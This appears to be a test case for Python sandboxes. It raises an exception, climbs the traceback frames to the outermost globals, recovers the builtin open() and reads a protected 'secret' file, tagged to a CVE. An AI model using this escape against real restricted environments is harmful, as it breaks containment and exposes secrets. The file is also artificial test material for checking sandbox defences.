"""Climb from the traceback of an error to the frame that handles it.

family: frames
canary: secret
stops: full, container
root: no
related: CVE-2026-39888
"""

try:
    raise ValueError
except ValueError as error:
    frame = error.__traceback__.tb_frame
while frame.f_back:
    frame = frame.f_back
print(frame.f_globals["__builtins__"].open(SECRET_FILE).read())
